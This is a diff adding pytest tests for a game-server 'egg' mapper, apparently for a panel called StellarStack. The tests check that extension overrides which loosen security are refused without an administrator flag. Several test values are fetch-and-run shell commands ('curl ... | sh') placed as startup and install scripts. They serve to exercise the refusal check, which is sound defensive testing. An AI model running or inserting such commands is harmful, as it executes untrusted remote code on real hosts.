@@ -291,6 +291,8 @@ def test_export_then_import_gives_the_same_blueprint(name: str, form: str) -> No
     original = mapped(name, accept_unknown_rules=True)
     exported = export_egg(blueprint_of(original), original.egg_uuid, form)  # type: ignore[arg-type]
     assert exported["meta"]["version"] == form.upper().replace("_V", "_v")
+    # Every test egg's blueprint is said in the egg's own words: no extension needed.
+    assert EXTENSION not in exported
     (egg,) = read_eggs(json.dumps(exported).encode(), "json")
     again = map_egg(egg, accept_unknown_rules=True)
     assert again.blueprint == original.blueprint
@@ -304,7 +306,9 @@ def test_what_an_egg_cannot_say_travels_in_the_extension() -> None:
     exported = export_egg(blueprint, None, "ptdl_v2")
     assert exported[EXTENSION] == {"read_only_root": False}
     (egg,) = read_eggs(json.dumps(exported).encode(), "json")
-    assert map_egg(egg).blueprint == blueprint
+    # A writable root loosens what the egg says: only with the administrator's flag.
+    assert map_egg(egg).report.refusals[0].field == f"{EXTENSION}.read_only_root"
+    assert map_egg(egg, accept_extension=True).blueprint == blueprint
     pterodactyl = json.loads(exported["config"]["files"])
     assert pterodactyl["openttd.cfg"]["find"]["network.server_port"] == (
         "{{server.build.default.port}}"
@@ -323,3 +327,78 @@ def test_an_eggs_installer_gets_a_writable_root_of_its_own(name: str) -> None:
     assert blueprint.read_only_root
     (said,) = item(result, "scripts.installation", "changed")
     assert "a writable root of its own" in said
+
+
+@pytest.mark.parametrize(
+    ("key", "value"),
+    [
+        ("read_only_root", False),
+        ("image_command", True),
+        ("startup", "curl -s https://example.invalid/x | sh"),
+        (
+            "install",
+            {"image": "alpine:3.20", "entrypoint": "/bin/sh", "script": "curl x | sh"},
+        ),
+        ("file_denylist", []),
+        (
+            "config_files",
+            [{"path": "a.txt", "parser": "file", "replace": [{"match": "a", "value": "b"}]}],
+        ),
+        ("variables", []),
+    ],
+)
+def test_an_extension_that_loosens_the_egg_is_refused_without_the_flag(
+    key: str, value: Any
+) -> None:
+    egg = load("ptdl-v2-minecraft-paper.json")
+    egg["file_denylist"] = ["*.jar"]
+    egg[EXTENSION] = {key: value}
+    refused = map_egg(egg, accept_unknown_rules=True)
+    assert refused.blueprint is None
+    (why,) = item(refused, f"{EXTENSION}.{key}", "refused")
+    assert "accept_extension=true" in why
+    assert json.dumps(value)[:40] in why
+
+
+def test_an_accepted_extension_is_reported_as_changed_and_the_stale_items_go() -> None:
+    egg = load("ptdl-v2-minecraft-paper.json")
+    plain = map_egg(egg, accept_unknown_rules=True)
+    assert item(plain, "scripts.installation", "changed")
+    install = {"image": "alpine:3.20", "entrypoint": "/bin/sh", "script": "curl x | sh"}
+    startup = "java -jar other.jar"
+    egg[EXTENSION] = {"install": install, "startup": startup, "read_only_root": False}
+    result = map_egg(egg, accept_unknown_rules=True, accept_extension=True)
+    blueprint = blueprint_of(result)
+    assert blueprint.startup == startup
+    assert blueprint.install is not None
+    assert blueprint.install.script == "curl x | sh"
+    assert not blueprint.read_only_root
+    # What described the egg's own installer and startup is gone; each override says its value.
+    fields = {i.field for i in result.report.items}
+    assert not {f for f in fields if f.startswith(("scripts.installation", "startup"))}
+    (said,) = item(result, f"{EXTENSION}.install", "changed")
+    assert '"curl x | sh"' in said
+    assert item(result, f"{EXTENSION}.startup", "changed") == [
+        f"StellarStack's own value, set over the egg's: {json.dumps(startup)}"
+    ]
+    assert item(result, f"{EXTENSION}.read_only_root", "changed")
+    assert not [i for i in result.report.items if i.outcome == "mapped" and EXTENSION in i.field]
+
+
+def test_an_extension_that_tightens_or_only_renames_needs_no_flag() -> None:
+    egg = load("ptdl-v2-minecraft-paper.json")
+    egg["file_denylist"] = ["*.jar"]
+    egg[EXTENSION] = {
+        "read_only_root": True,
+        "image_command": False,
+        "file_denylist": ["*.jar", "secrets/"],
+        "description": "ours",
+    }
+    result = map_egg(egg, accept_unknown_rules=True)
+    blueprint = blueprint_of(result)
+    assert blueprint.file_denylist == ["*.jar", "secrets/"]
+    assert blueprint.description == "ours"
+    assert item(result, f"{EXTENSION}.description", "changed") == [
+        "StellarStack's own value, set over the egg's: \"ours\""
+    ]
+    assert not item(result, "file_denylist", "mapped")
